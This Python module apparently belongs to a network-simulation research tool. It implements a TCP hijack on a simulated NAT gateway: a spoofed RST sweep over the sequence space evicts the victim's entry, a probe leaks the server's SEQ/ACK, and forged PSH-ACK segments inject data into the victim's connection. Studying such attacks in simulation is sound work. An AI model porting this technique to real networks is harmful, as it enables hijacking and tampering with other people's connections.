"""TCP hijack: learn a victim connection's (SEQ, ACK), then inject data.

Acquisition evicts the victim's entry with a sweep of TTL-limited spoofed
RSTs, waits out whatever timeout the sweep left behind, and then talks to
the server through the tunnel from the victim's own port number. Under port
preservation the new entry reuses the victim's public port, so the server
sees a desynchronised segment on the victim's connection and answers with a
pure ACK carrying its exact sequence numbers, which the gateway delivers to
the attacker.

Injection removes the attacker's entry with an exact RST and streams forged
data toward the victim's public port. The victim's next request recreates
its entry, and the first forged segment behind it is accepted in order.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..conntrack import InWindow, NoCheck
from ..endpoints import FORGED
from ..netsim import Train
from ..packets import ACK, PSHACK, RST, Endpoint, Packet, Protocol
from ..world import World
from .report import AttackReport

RST_STRIDE = 60_000
RST_COUNT = 71_583  # ceil(2**32 / 60000)
REPLY_POLL_S = 0.01


@dataclass
class HijackOptions:
    rate_pps: float = 100_000.0
    rst_stride: int = RST_STRIDE
    rst_count: int = RST_COUNT
    retries: int = 5
    # None derives the wait from the RST handling the attacker has fingerprinted.
    wait_s: Optional[float] = None
    wait_margin_s: float = 0.5
    reply_wait_s: float = 1.0
    retry_gap_s: float = 1.0
    forged_payload_len: int = 32
    forged_repeat_s: float = 0.02
    inject_timeout_s: float = 600.0
    # Pause before the forged stream starts, e.g. to emulate a slower attacker.
    inject_delay_s: float = 0.0


def _fingerprinted_wait(world: World, opts: HijackOptions) -> float:
    if opts.wait_s is not None:
        return opts.wait_s
    prof = world.gateway.config.profile
    pol = prof.rst_policy
    if isinstance(pol, InWindow):
        base = pol.reduced_timeout_s
    elif isinstance(pol, NoCheck):
        base = prof.timeouts.close_s
    else:
        base = 10.0
    return base + opts.wait_margin_s


def rst_sweep(world: World, victim_port: int, remote: Endpoint, opts: HijackOptions) -> float:
    """Step 1: spoofed RSTs covering the sequence space; returns the last departure."""
    a = world.attacker
    ttl = a.hops_to_gateway()
    tpl = Packet.tcp(remote, a.gateway(victim_port), RST, 0, ttl=ttl)
    tpl.mark = "sweep"
    train = Train(tpl, opts.rst_count, 1.0 / opts.rate_pps, "seq", 0, opts.rst_stride)
    return a.direct_train(train)


def _rst_effects(world: World) -> int:
    st = world.gateway.table.stats
    return st["rst_reduced"] + st["rst_closed"] + st["rst_removed"]


def _await_reply(world: World, victim_port: int, remote: Endpoint,
                 limit_s: float) -> Optional[Packet]:
    """Poll the inbox for the server's pure ACK; stop early on an RST."""
    sim, a = world.sim, world.attacker
    end = sim.now + limit_s
    while sim.now < end:
        sim.run_until(min(end, sim.now + REPLY_POLL_S))
        for p in a.drain():
            if p.proto is not Protocol.TCP or p.src != remote or p.dst.port != victim_port:
                continue
            if p.flags == ACK:
                return p
            if p.flags & RST:
                return None
    return None


def acquire_seq_ack(world: World, victim_port: int, remote: Endpoint,
                    opts: Optional[HijackOptions] = None
                    ) -> tuple[Optional[tuple[int, int]], AttackReport]:
    """Run steps 1-2 until the server leaks (SEQ, ACK) or retries run out."""
    opts = opts or HijackOptions()
    sim, a = world.sim, world.attacker
    report = AttackReport("acquire_seq_ack")
    wait = _fingerprinted_wait(world, opts)
    accepted_any = False
    attempts = 0
    for attempt in range(opts.retries):
        attempts = attempt + 1
        before = _rst_effects(world)
        with report.phase(f"sweep#{attempts}", a):
            last = rst_sweep(world, victim_port, remote, opts)
            sim.run_until(last + 0.1)
        accepted_any |= _rst_effects(world) > before
        with report.phase(f"wait#{attempts}", a):
            sim.run_until(sim.now + wait)
        with report.phase(f"probe#{attempts}", a):
            a.drain()
            a.tunnel(Packet.tcp(a.local(victim_port), remote, PSHACK, 1, 1, 1, payload=b"x"))
            leak = _await_reply(world, victim_port, remote, opts.reply_wait_s)
        if leak is not None:
            report.success = True
            report.recovered = (leak.seq, leak.ack)
            report.details.update(attempts=attempts)
            return (leak.seq, leak.ack), report
        sim.run_until(sim.now + opts.retry_gap_s)
    report.details.update(attempts=attempts)
    report.fail("entry_refreshed" if accepted_any else "rst_rejected")
    return None, report


def tcp_inject(world: World, victim_port: int, remote: Endpoint, seq: int, ack: int,
               opts: Optional[HijackOptions] = None) -> AttackReport:
    """Step 3: drop the attacker's entry, then stream forged data until accepted."""
    opts = opts or HijackOptions()
    sim, a, victim = world.sim, world.attacker, world.victim
    report = AttackReport("tcp_inject")
    session = victim.sessions.get((victim_port, remote))
    with report.phase("evict", a):
        a.direct(Packet.tcp(remote, a.gateway(victim_port), RST, 1,
                            ttl=a.hops_to_gateway()))
        sim.run_until(sim.now + 0.05 + opts.inject_delay_s)
    forged = Packet.tcp(remote, a.gateway(victim_port), PSHACK, seq, ack,
                        opts.forged_payload_len, payload=b"forged")
    forged.mark = FORGED
    deadline = sim.now + opts.inject_timeout_s
    seen = len(session.accepted) if session is not None else 0
    sent = 0
    with report.phase("inject", a):
        while sim.now < deadline:
            a.direct(forged.copy())
            sent += 1
            sim.run_until(sim.now + opts.forged_repeat_s)
            if session is None:
                continue
            if session.forged_accepted_at is not None:
                # Let the victim's ACK go out before reporting.
                sim.run_until(sim.now + 0.1)
                break
            if session.state == "CLOSED" or len(session.accepted) > seen:
                break
    report.details.update(forged_sent=sent)
    if session is not None and session.forged_accepted_at is not None:
        report.success = True
        report.recovered = session.forged_accepted_at
        return report
    if session is not None and session.state == "CLOSED":
        return report.fail("client_rst_desync")
    if session is not None and len(session.accepted) > seen:
        return report.fail("legit_data_first")
    return report.fail("never_restored")
